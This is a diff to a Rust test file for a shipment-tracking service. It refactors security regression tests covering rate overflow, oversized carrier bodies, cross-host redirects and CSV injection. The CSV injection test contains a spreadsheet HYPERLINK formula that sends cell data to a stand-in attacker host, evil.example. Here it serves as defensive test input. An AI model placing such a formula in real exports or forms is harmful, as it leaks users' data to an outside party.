@@ -112,10 +112,10 @@ async fn attack_carrier_rate_does_not_kill_the_poller() {
     }
     let mut body = shipment_body(numbers[0]);
     body["carrier"] = json!("ups");
-    app.post_shipment(&key, &body).await;
+    app.register_with(&key, &body).await;
     assert_eq!(app.poll_at(Utc::now()).await.claimed, 1);
     body["tracking_number"] = json!(numbers[1]);
-    let second: Value = app.post_shipment(&key, &body).await.json().await.unwrap();
+    let second = app.register_with(&key, &body).await;
     // The second request meets the gate's pace: before the fix, a wait of 10^17 ms
     // overflowed the clock and the poller died.
     let now = Utc::now();
@@ -202,12 +202,7 @@ async fn attack_ten_thousand_feedback_delays_are_refused() {
 async fn attack_csv_injection_is_neutralised() {
     let app = crate::helpers::spawn_app().await;
     let (_, key) = app.create_merchant("Acme").await;
-    let s: Value = app
-        .post_shipment(&key, &shipment_body(&number("OT")))
-        .await
-        .json()
-        .await
-        .unwrap();
+    let s = app.register(&key, &number("OT")).await;
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
     let sent = crate::feedback::send_form(&s, &[("rating", "1"), ("comment", formula)]).await;
     assert_eq!(sent.status(), 200);
@@ -352,12 +347,7 @@ async fn attack_fifty_megabyte_carrier_body_is_refused() {
     let hostile = hostile_carrier(None);
     let app = app_on(hostile.url.clone()).await;
     let (_, key) = app.create_merchant("Acme").await;
-    let s: Value = app
-        .post_shipment(&key, &shipment_body(&number("OT")))
-        .await
-        .json()
-        .await
-        .unwrap();
+    let s = app.register(&key, &number("OT")).await;
     let polled = app.poll_at(Utc::now()).await;
     assert_eq!((polled.claimed, polled.failed), (1, 1));
     let handed_over = hostile.streamed.load(Ordering::SeqCst);
@@ -376,7 +366,7 @@ async fn attack_redirect_to_another_host_is_not_followed() {
     let redirector = hostile_carrier(Some(elsewhere.url.clone()));
     let app = app_on(redirector.url.clone()).await;
     let (_, key) = app.create_merchant("Acme").await;
-    app.post_shipment(&key, &shipment_body(&number("OT"))).await;
+    app.register(&key, &number("OT")).await;
     let polled = app.poll_at(Utc::now()).await;
     assert_eq!((polled.claimed, polled.failed), (1, 1));
     assert_eq!(
